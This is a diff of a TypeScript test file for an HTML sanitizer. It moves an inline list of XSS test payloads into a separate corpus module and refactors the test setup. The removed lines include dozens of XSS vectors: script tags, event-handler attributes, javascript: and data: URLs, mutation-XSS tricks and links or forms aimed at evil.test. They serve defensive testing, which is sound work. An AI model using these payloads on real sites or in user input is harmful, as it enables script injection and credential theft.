@@ -1,21 +1,15 @@
 import fc from 'fast-check';
 import { JSDOM } from 'jsdom';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { cleanerOf } from '#lib/bff/clean-answer.ts';
 import { cleanHtml } from '#lib/bff/clean-html.ts';
 import { calls } from '#lib/calls/table.ts';
-import { ask, isLong, leaveEnv, setEnv } from './harness.ts';
-import { type Stub, send, startStub } from './stub.ts';
+import { stubForFile } from './file-stub.ts';
+import { ask, isLong, LONG_MS } from './harness.ts';
+import { htmlCorpus } from './html-corpus.ts';
+import { send } from './stub.ts';
 
-let stub: Stub;
-beforeAll(async () => {
-  stub = await startStub();
-  setEnv({ UPSTREAM_URL: stub.origin });
-});
-afterAll(async () => {
-  await leaveEnv();
-  await stub.close();
-});
+const stub = stubForFile();
 
 const ALLOWED =
   /^(?:A|B|BLOCKQUOTE|BR|CAPTION|CODE|DD|DIV|DL|DT|EM|FIGCAPTION|FIGURE|H[2-6]|HR|I|IMG|LI|OL|P|PRE|S|SMALL|SPAN|STRONG|SUB|SUP|TABLE|TBODY|TD|TFOOT|TH|THEAD|TR|U|UL)$/;
@@ -33,9 +27,12 @@ const ATTRIBUTES: Record<string, RegExp> = {
   rowspan: /^\d{1,2}$/,
 };
 
+/** One window for all texts: each would cost megabytes that are not given back while a test runs. */
+const { DOMParser } = new JSDOM('').window;
+
 /** What a browser would make of the text, checked element by element: the judge is a parser, not a pattern. */
 function faults(html: string): string[] {
-  const { document } = new JSDOM(`<body>${html}</body>`).window;
+  const document = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
   const found: string[] = [];
   for (const element of document.body.querySelectorAll('*')) {
     if (!ALLOWED.test(element.tagName)) found.push(element.tagName);
@@ -47,74 +44,9 @@ function faults(html: string): string[] {
 }
 
 const js = 'alert(1)';
-const corpus = [
-  `<script>${js}</script>`,
-  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
-  `<scr<script>ipt>${js}</scr</script>ipt>`,
-  `<img src=x onerror=${js}>`,
-  `<img src="x" onerror="${js}" src="https://img.example.test/a.png">`,
-  `<svg onload=${js}>`,
-  `<svg><script>${js}</script></svg>`,
-  `<svg><textarea><img src=x onerror=${js}></textarea></svg>`,
-  `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
-  `<math><a xlink:href="javascript:${js}">x</a></math>`,
-  `<a href="javascript:${js}">x</a>`,
-  `<a href=" javascript:${js}">x</a>`,
-  `<a href="java\nscript:${js}">x</a>`,
-  `<a href="java&#09;script:${js}">x</a>`,
-  `<a href="&#106;avascript:${js}">x</a>`,
-  `<a href="JaVaScRiPt:${js}">x</a>`,
-  `<a href="data:text/html,<script>${js}</script>">x</a>`,
-  `<a href="vbscript:x">x</a>`,
-  `<a href="//evil.test">x</a>`,
-  `<a href="/\\evil.test">x</a>`,
-  `<a href="\\\\evil.test">x</a>`,
-  `<a href="http://evil.test">x</a>`,
-  `<a href="blob:https://evil.test/x">x</a>`,
-  `<a href="https://evil.test" onclick="${js}" style="position:fixed" target="_top">x</a>`,
-  `<iframe src="javascript:${js}"></iframe>`,
-  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
-  `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
-  `<form action="https://evil.test"><input name=password><button formaction="javascript:${js}">x</button></form>`,
-  `<style>@import 'https://evil.test/x.css';</style>`,
-  `<p style="background:url(https://evil.test)">x</p>`,
-  `<link rel=stylesheet href=https://evil.test/x.css>`,
-  `<meta http-equiv=refresh content="0;url=https://evil.test">`,
-  `<base href="https://evil.test/">`,
-  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
-  `<xmp><img src=x onerror=${js}></xmp>`,
-  `<option><style></option></select><img src=x onerror=${js}></style></option>`,
-  `<select><option><img src=x onerror=${js}></select>`,
-  `<template><img src=x onerror=${js}></template>`,
-  `<title><img src=x onerror=${js}></title>`,
-  `<plaintext><img src=x onerror=${js}>`,
-  `<!--><img src=x onerror=${js}>-->`,
-  `<![CDATA[<img src=x onerror=${js}>]]>`,
-  `<p/onmouseover=${js}>x</p>`,
-  `<p on\u0000click=${js}>x</p>`,
-  `<div ontoggle=${js} popover id=x>x</div><button popovertarget=x>x</button>`,
-  `<details open ontoggle=${js}>x</details>`,
-  `<video><source onerror=${js}></video><audio src=x onerror=${js}>`,
-  `<body onload=${js}>`,
-  `<marquee onstart=${js}>x</marquee>`,
-  `<img src="https://evil.test/pixel.png"><img src="data:image/svg+xml,<svg onload=${js}>">`,
-  `<img srcset="https://evil.test/a.png 1x" src="https://img.example.test/../a.png">`,
-  `<table background="javascript:${js}"><td background="javascript:${js}">x</td></table>`,
-  `<p id="__next" name="location" class="x">x</p>`,
-  `<a name="document"></a><img name="cookie">`,
-  `&lt;script&gt;${js}&lt;/script&gt;`,
-  `<<script>${js}//<</script>`,
-  `<img src=\`javascript:${js}\`>`,
-  `"><script>${js}</script>`,
-  `<p title="&quot;><img src=x onerror=${js}>">x</p>`,
-  '<'.repeat(5000),
-  '<div>'.repeat(3000),
-  `${'<b>'.repeat(200)}<img src=x onerror=alert(1)>`,
-];
 
 describe('W1: upstream HTML', () => {
-  it.each(corpus)('holds nothing that runs, frames, sends or styles: %s', html => {
+  it.each(htmlCorpus(js))('holds nothing that runs, frames, sends or styles: %s', html => {
     const clean = cleanHtml(html);
     expect(faults(clean)).toEqual([]);
     expect(cleanHtml(clean)).toBe(clean);
@@ -131,7 +63,7 @@ describe('W1: upstream HTML', () => {
     expect(cleanHtml(clean)).toBe(clean);
   });
 
-  it('no text of the grammar gets through, and cleaning twice changes nothing', () => {
+  it('no text of the grammar gets through, and cleaning twice changes nothing', { timeout: LONG_MS }, () => {
     const tag = fc.constantFrom(
       ...'a img svg math style script p b table td option select textarea noscript xmp template form iframe title'.split(
         ' ',
